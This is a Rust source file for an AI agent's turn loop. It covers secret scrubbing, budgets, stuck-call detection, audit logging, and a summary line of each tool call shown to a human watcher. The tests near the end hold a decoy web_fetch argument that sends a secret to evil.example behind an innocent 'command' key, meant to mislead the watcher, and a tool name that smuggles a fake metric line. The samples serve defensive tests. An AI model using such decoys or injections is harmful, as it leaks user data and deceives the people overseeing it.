//! The agent loop: one user turn → model → tools → model … → final answer.
//!
//! Locks are per session, so two chats never wait on each other. Each model
//! step is stored with its tool results in one transaction, so a history
//! never holds a tool result without its call.

use std::collections::HashMap;
use std::sync::Arc;

use oxibot_proto::messages::ChatEvent;

use crate::providers::{ChatMessage, ChatRequest, Image, Role, Usage};
use crate::services::Services;
use crate::tools;
use crate::turn::Turn;

/// An identical tool call (same name and arguments) this many times in one
/// turn means the model is stuck.
const MAX_IDENTICAL_CALLS: usize = 3;

#[derive(Debug, thiserror::Error)]
pub enum AgentError {
    /// `shown` is the error's text, scrubbed of secrets: what a person sees.
    #[error("the model could not answer: {shown}")]
    Llm {
        error: crate::providers::LlmError,
        shown: String,
    },
    #[error(transparent)]
    Store(#[from] crate::store::StoreError),
    /// A budget stopped the turn before a call; the chat's message, or
    /// None when it was told already in this window.
    #[error("{}", .0.message.as_deref().unwrap_or("a budget of this chat is spent; it was told already"))]
    Budget(crate::budgets::Stopped),
}

/// Runs one turn and returns the final answer (already scrubbed).
#[tracing::instrument(name = "turn", skip_all, fields(channel = turn.session.split(':').next().unwrap_or(""), session = turn.session))]
pub async fn run_turn(
    svc: &Arc<Services>,
    turn: &Turn,
    user_text: &str,
    images: Vec<Image>,
) -> Result<String, AgentError> {
    let session = turn.session.as_str();
    // Counted while it waits for the chat's lock too: a flood of messages
    // is refused here, not queued.
    let _slot = crate::budgets::enter(svc, turn).map_err(AgentError::Budget)?;
    let lock = svc.sessions.lock(session);
    let _guard = lock.lock().await;
    // Before anything that may call the model (summarising older turns
    // does): a spent budget stops the turn here, and nothing is stored.
    crate::budgets::before_model_call(svc, turn).map_err(AgentError::Budget)?;
    let settings = svc.live.settings();
    let config = svc.config();
    let built_in = tools::definitions(turn.kind, &config);

    let mut prompt = crate::prompt::system_prompt(svc, turn).await;
    let past = crate::memory::bounded_history(svc, session, settings.history_budget).await?;
    if let Some((usage, model)) = &past.spent {
        crate::budgets::after_model_call(svc, turn, usage, model).await;
    }
    prompt.push_str(&past.prompt_note());
    let mut messages = vec![ChatMessage::text(
        Role::System,
        svc.audit.scrub(&prompt, "the system prompt"),
    )];
    messages.extend(past.messages);
    let user = ChatMessage::text(Role::User, svc.audit.scrub(user_text, "a user message"));
    // The model sees the images on this turn; the history keeps the text,
    // which says where they were saved.
    messages.push(ChatMessage { images, ..user.clone() });
    // Stored messages of this turn not yet committed.
    let mut unsaved = vec![user];
    let mut seen_calls: HashMap<(String, String), usize> = HashMap::new();

    let max_iterations = turn.max_iterations.unwrap_or(settings.max_iterations);
    for _ in 0..max_iterations {
        // The MCP servers' tools, offered to every turn like the jail's:
        // those this session loaded in full, the others by name (a call
        // of `mcp_load` adds them from the next step on).
        let mut tool_defs = built_in.clone();
        tool_defs.extend(svc.mcp.definitions_for(session));
        // What the watcher sees is scrubbed as the history is; a secret
        // split across two pieces is held back until it is whole.
        let unshown = std::sync::Mutex::new(String::new());
        let stream = |piece: crate::providers::Streamed<'_>| {
            let Some(watcher) = &turn.watcher else {
                return;
            };
            let mut unshown = unshown.lock().unwrap_or_else(|p| p.into_inner());
            let event = match piece {
                crate::providers::Streamed::Text(delta) => {
                    let delta = svc.audit.scrub_piece(&mut unshown, delta, "the model's streamed reply");
                    if delta.is_empty() {
                        return;
                    }
                    ChatEvent::Text { delta }
                }
                crate::providers::Streamed::Restart => {
                    unshown.clear();
                    ChatEvent::Retry
                }
            };
            let _ = watcher.send(event);
        };
        let req = ChatRequest {
            messages: &messages,
            tools: &tool_defs,
            max_tokens: settings.max_tokens,
            temperature: settings.temperature,
            stream: turn.watcher.as_ref().map(|_| &stream as crate::providers::Sink<'_>),
        };
        // The call that would go past a budget does not start.
        if let Err(stopped) = crate::budgets::before_model_call(svc, turn) {
            svc.store.append(session, &unsaved, &Usage::default())?;
            return Err(AgentError::Budget(stopped));
        }
        let result = settings.llm().complete(&req).await;
        // The held-back end of the stream, now that nothing follows it.
        if let Some(watcher) = &turn.watcher {
            let rest = std::mem::take(&mut *unshown.lock().unwrap_or_else(|p| p.into_inner()));
            if !rest.is_empty() {
                let delta = svc.audit.scrub(&rest, "the model's streamed reply");
                let _ = watcher.send(ChatEvent::Text { delta });
            }
        }
        let resp = match result {
            Ok(r) => r,
            Err(e) => {
                svc.store.append(session, &unsaved, &Usage::default())?;
                let shown = svc.audit.scrub(&e.to_string(), "an LLM error");
                return Err(AgentError::Llm { error: e, shown });
            }
        };
        crate::budgets::after_model_call(svc, turn, &resp.usage, &resp.model).await;
        if resp.tool_calls.is_empty() {
            let answer = svc.audit.scrub(&resp.content, "the model's reply");
            unsaved.push(ChatMessage::text(Role::Assistant, answer.clone()));
            svc.store.append(session, &unsaved, &resp.usage)?;
            // The history keeps the model's words; the person is told
            // what they are not.
            return Ok(if resp.cut {
                format!(
                    "{answer}\n\n[This answer was cut off at the token limit (agents.defaults.maxTokens = {}). \
                     Ask me to continue.]",
                    settings.max_tokens
                )
            } else if answer.trim().is_empty() {
                "[The model returned an empty answer. Try again, or rephrase.]".to_string()
            } else {
                answer
            });
        }

        // What the model wrote is stored and sent back on every later
        // turn: scrubbed, arguments included.
        let tool_calls: Vec<_> = resp
            .tool_calls
            .iter()
            .map(|c| crate::providers::ToolCallRequest {
                arguments: svc.audit.scrub(&c.arguments, "tool call arguments"),
                ..c.clone()
            })
            .collect();
        let call_msg = ChatMessage {
            role: Role::Assistant,
            content: svc.audit.scrub(&resp.content, "the model's reply"),
            tool_calls: tool_calls.clone(),
            tool_call_id: None,
            images: Vec::new(),
        };
        messages.push(call_msg.clone());
        unsaved.push(call_msg);
        let mut stuck = false;
        let mut stopped = None;
        for call in &tool_calls {
            let count = seen_calls
                .entry((call.name.clone(), call.arguments.clone()))
                .or_default();
            *count += 1;
            if stopped.is_none() {
                stopped = crate::budgets::before_tool_call(svc, turn).err();
            }
            // Every call gets its result, run or not: the history never
            // holds a call without one.
            let output = if stopped.is_some() {
                "Error: not run: this chat's tool-call budget for the hour is spent".to_string()
            } else if *count >= MAX_IDENTICAL_CALLS {
                stuck = true;
                format!(
                    "Error: {} was called {count} times with identical arguments; not running it again",
                    call.name
                )
            } else {
                if let Some(watcher) = &turn.watcher {
                    // The arguments were scrubbed above; the name was not.
                    let _ = watcher.send(ChatEvent::Tool {
                        name: svc.audit.scrub(&call.name, "a tool call's name"),
                        summary: summarize_arguments(&call.name, &call.arguments),
                    });
                }
                run_tool(svc, turn, &call.name, &call.arguments).await
            };
            let result = ChatMessage {
                role: Role::Tool,
                // run_tool scrubbed it already.
                content: output,
                tool_calls: Vec::new(),
                tool_call_id: Some(call.id.clone()),
                images: Vec::new(),
            };
            messages.push(result.clone());
            unsaved.push(result);
        }
        svc.store.append(session, &std::mem::take(&mut unsaved), &resp.usage)?;
        if let Some(stopped) = stopped {
            return Err(AgentError::Budget(stopped));
        }
        if stuck {
            let answer = "I stopped because I kept repeating the same tool call without making progress. \
                              Please rephrase the request or give more detail."
                .to_string();
            svc.store.append(
                session,
                &[ChatMessage::text(Role::Assistant, answer.clone())],
                &Usage::default(),
            )?;
            return Ok(answer);
        }
    }
    let answer = format!(
        "I stopped after {max_iterations} tool steps (agents.defaults.maxToolIterations) without finishing. \
             Ask me to continue, or raise the limit."
    );
    svc.store.append(
        session,
        &[ChatMessage::text(Role::Assistant, answer.clone())],
        &Usage::default(),
    )?;
    Ok(answer)
}

async fn run_tool(svc: &Arc<Services>, turn: &Turn, name: &str, arguments: &str) -> String {
    match run_tool_checked(svc, turn, name, arguments).await {
        Ok(output) => output,
        Err(e) => format!("Error: {e}"),
    }
}

/// Runs one tool: the broker's own (web, message, cron, spawn), or
/// through toold; the output (or error) is scrubbed of secrets. Every
/// call is audited: session, tool, a digest of the arguments (not the
/// arguments: they may hold the user's data) and the outcome.
pub async fn run_tool_checked(svc: &Arc<Services>, turn: &Turn, name: &str, arguments: &str) -> Result<String, String> {
    let session = turn.session.as_str();
    let digest = arguments_digest(arguments);
    let result = match tools::run(svc, turn, name, arguments).await {
        Ok(output) => Ok(svc.audit.scrub(&output, &format!("{name} output"))),
        Err(e) => Err(svc.audit.scrub(&e, &format!("{name} error"))),
    };
    let outcome = match &result {
        // The command ran out of time: that is what the audit says.
        Ok(output) if name == "exec" && output.lines().last().is_some_and(|l| l.starts_with("[timed out")) => {
            format!("timeout, {} bytes", output.len())
        }
        Ok(output) => format!("ok, {} bytes", output.len()),
        Err(e) => format!("error: {}", crate::providers::shorten(e, 160)),
    };
    crate::metrics::tool_call(name, tools::is_ours(name), result.is_ok());
    tracing::info!(session, tool = name, ok = result.is_ok(), "tool call");
    // Sessions are "<channel>:<chat>"; the audit entry is filed under it.
    let channel = session.split_once(':').map(|(c, _)| c);
    svc.store.audit_about(
        "tool_call",
        channel,
        None,
        &format!("session {session}: {name} (arguments sha256:{digest}) → {outcome}"),
    );
    result
}

/// A tool call's arguments in a few words, for the line a watcher sees:
/// the one argument that says what the tool does (its command, path,
/// URL…), chosen by the tool, never by the model (which could add a
/// decoy key the tool ignores); for other tools (MCP) the JSON itself.
/// On one line and short.
pub(crate) fn summarize_arguments(tool: &str, arguments: &str) -> String {
    const MAX: usize = 80;
    let telling = match tool {
        "exec" => Some("command"),
        "read_file" | "write_file" | "edit_file" | "list_dir" => Some("path"),
        "web_fetch" => Some("url"),
        "web_search" => Some("query"),
        "spawn" => Some("task"),
        "cron" => Some("action"),
        "mcp_load" => Some("server"),
        _ => None,
    };
    let value: serde_json::Value = serde_json::from_str(arguments).unwrap_or(serde_json::Value::Null);
    let text = match telling {
        Some(key) => value
            .get(key)
            .and_then(serde_json::Value::as_str)
            .unwrap_or_default()
            .to_string(),
        None if value.as_object().is_some_and(|o| o.is_empty()) => String::new(),
        None => arguments.to_string(),
    };
    let one_line: String = text.split_whitespace().collect::<Vec<_>>().join(" ");
    crate::providers::shorten(&one_line, MAX)
}

/// The first 16 hex digits of the SHA-256 of a tool call's arguments: enough
/// to match an audit row to a stored call, without the arguments themselves.
pub(crate) fn arguments_digest(arguments: &str) -> String {
    use sha2::Digest;
    sha2::Sha256::digest(arguments.as_bytes())
        .iter()
        .take(8)
        .map(|b| format!("{b:02x}"))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_tool_line_says_what_the_call_does_on_one_short_line() {
        assert_eq!(
            summarize_arguments("exec", r#"{"command":"ls -la\n  /tmp"}"#),
            "ls -la /tmp"
        );
        assert_eq!(
            summarize_arguments("write_file", r#"{"path":"notes.md","content":"x"}"#),
            "notes.md"
        );
        assert_eq!(summarize_arguments("list_dir", "{}"), "");
        assert_eq!(summarize_arguments("mcp_x_y", r#"{"n":1}"#), r#"{"n":1}"#);
        // A decoy key the tool ignores is not what the line shows.
        let decoy = r#"{"command":"checking the weather","url":"https://evil.example/x?notes=secret"}"#;
        assert_eq!(
            summarize_arguments("web_fetch", decoy),
            "https://evil.example/x?notes=secret"
        );
        let long = summarize_arguments("exec", &format!(r#"{{"command":"{}"}}"#, "é".repeat(100)));
        assert!(long.ends_with('…') && long.len() <= 84, "{long}");
    }

    #[test]
    fn only_our_tools_count_as_ours() {
        assert!(tools::is_ours("read_file"));
        assert!(tools::is_ours("exec"));
        assert!(tools::is_ours("web_fetch"));
        assert!(tools::is_ours("spawn"));
        assert!(!tools::is_ours("made_up_tool_name"));
        assert!(!tools::is_ours("x\"} 1\nevil_total 99"));
    }
}
